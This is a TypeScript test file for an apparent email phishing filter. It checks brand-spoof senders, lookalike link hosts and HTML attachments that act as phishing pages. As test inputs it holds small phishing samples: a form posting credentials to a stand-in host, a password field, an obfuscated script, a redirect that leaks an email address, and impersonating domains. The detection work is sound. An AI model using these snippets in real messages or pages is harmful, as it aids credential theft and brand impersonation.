// Brand imitation and phishing attachments: each check fires on the imitation and stays quiet
// on the brand's own mail and on names that merely resemble it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { activeHtmlAttachment, brandLookalikeHost, fromBrandSpoof } from '../../src/filter/phish.js';
import { parseMessage } from '../../src/mime/index.js';
import { viewMessage } from '../../src/filter/message-view.js';
import { msg } from './helpers-msg.js';

test('From display name naming a brand at a domain the brand does not own', () => {
  assert.equal(fromBrandSpoof('Microsoft 365 Admin', 'no-reply@nicepaint-shop.top'), true);
  assert.equal(fromBrandSpoof('PayPal Service', 'service@paypal-secure-help.com'), true);
  assert.equal(fromBrandSpoof('DHL Express', 'noreply@tenant123.onmicrosoft.com'), true);
  assert.equal(fromBrandSpoof('Apple', 'support@appleid-verify.net'), true);
  // The brands' own mail, on their subdomains and country domains.
  assert.equal(fromBrandSpoof('Microsoft account team', 'account-security-noreply@accountprotection.microsoft.com'), false);
  assert.equal(fromBrandSpoof('PayPal', 'service@paypal.de'), false);
  assert.equal(fromBrandSpoof('Amazon.co.uk', 'auto-confirm@amazon.co.uk'), false);
  assert.equal(fromBrandSpoof('Apple', 'no_reply@email.apple.com'), false);
  assert.equal(fromBrandSpoof('DHL Paket', 'noreply@dhl.de'), false);
  // Names that only resemble a brand, and no name at all.
  assert.equal(fromBrandSpoof('Apple Valley Farm', 'hello@applevalleyfarm.com'), false);
  assert.equal(fromBrandSpoof('Market Outlook', 'news@fund.example'), false);
  assert.equal(fromBrandSpoof('', 'service@paypal-secure-help.com'), false);
});

test('link hosts wearing a brand on someone else\'s domain', () => {
  assert.equal(brandLookalikeHost('paypal.com.account-check.top'), true);
  assert.equal(brandLookalikeHost('dhl-parcel-redelivery.com-track.icu'), true);
  assert.equal(brandLookalikeHost('microsoft-support.top'), true);
  assert.equal(brandLookalikeHost('www.paypal.com'), false);
  assert.equal(brandLookalikeHost('mail.paypal.de'), false);
  assert.equal(brandLookalikeHost('www.amazon.co.uk'), false);
  assert.equal(brandLookalikeHost('dl.dropboxusercontent.com'), false);
  assert.equal(brandLookalikeHost('login.microsoftonline.com'), false);
  assert.equal(brandLookalikeHost('203.0.113.9'), false);
  // Amazon's own image and ad hosts.
  assert.equal(brandLookalikeHost('m.media-amazon.com'), false);
  assert.equal(brandLookalikeHost('images-na.ssl-images-amazon.com'), false);
});

test('HTML attachments that are phishing pages', () => {
  assert.equal(activeHtmlAttachment('<form action="https://x.top/gate.php" method="post"><input name="u"></form>'), true);
  assert.equal(activeHtmlAttachment('<input type="password" name="p">'), true);
  assert.equal(activeHtmlAttachment('<script>document.write(atob("PGgxPg=="))</script>'), true);
  assert.equal(activeHtmlAttachment('<script>window.location.href = "https://x.top/?e=a@b.c"</script>'), true);
  // An HTML invoice or report that only shows something.
  assert.equal(activeHtmlAttachment('<html><body><table><tr><td>Invoice 42</td><td>1 200,00 kr</td></tr></table></body></html>'), false);
  assert.equal(activeHtmlAttachment('<form><input type="checkbox" checked> done</form>'), false);
});

test('a hostile HTML attachment costs linear time', () => {
  const t0 = performance.now();
  assert.equal(activeHtmlAttachment('<input '.repeat(150_000)), false);
  assert.equal(activeHtmlAttachment('<form '.repeat(170_000)), false);
  assert.ok(performance.now() - t0 < 2000, `${Math.round(performance.now() - t0)} ms`);
});

test('brand names in image hosts do not count, in link hosts they do', () => {
  const judge = (html: string) => {
    const raw = msg({ From: 'Shop <news@shop.example>', To: 'a@b.example', Subject: 'hello', 'Content-Type': 'text/html' }, html);
    return viewMessage(raw, parseMessage(raw)).facts.url_brand_lookalike;
  };
  assert.equal(judge('<p>Hi</p><img src="https://img-prod-cms-rt-microsoft-com.akamaized.net/a.png">'), 0);
  assert.equal(judge('<p>Hi</p><a href="https://paypal.com.account-check.top/login">PayPal</a>'), 1);
});
